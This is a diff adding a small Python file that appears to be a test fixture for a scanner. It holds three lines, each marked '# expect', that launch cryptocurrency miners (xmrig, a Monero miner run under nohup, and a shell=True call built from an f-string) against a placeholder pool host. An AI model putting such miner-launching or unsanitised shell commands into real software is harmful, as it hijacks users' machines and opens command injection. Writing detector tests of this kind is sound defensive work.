@@ -1,0 +1,12 @@
+import os
+import subprocess
+
+subprocess.Popen(["/tmp/xmrig", "-o", "pool.invalid:3333"])  # expect
+os.system("nohup ./x --coin=monero -u w &")  # expect
+
+
+def start(pool):
+    subprocess.call(f"/tmp/m -o stratum+tcp://{pool} -u wallet", shell=True)  # expect
+
+
+start("pool.invalid:3333")
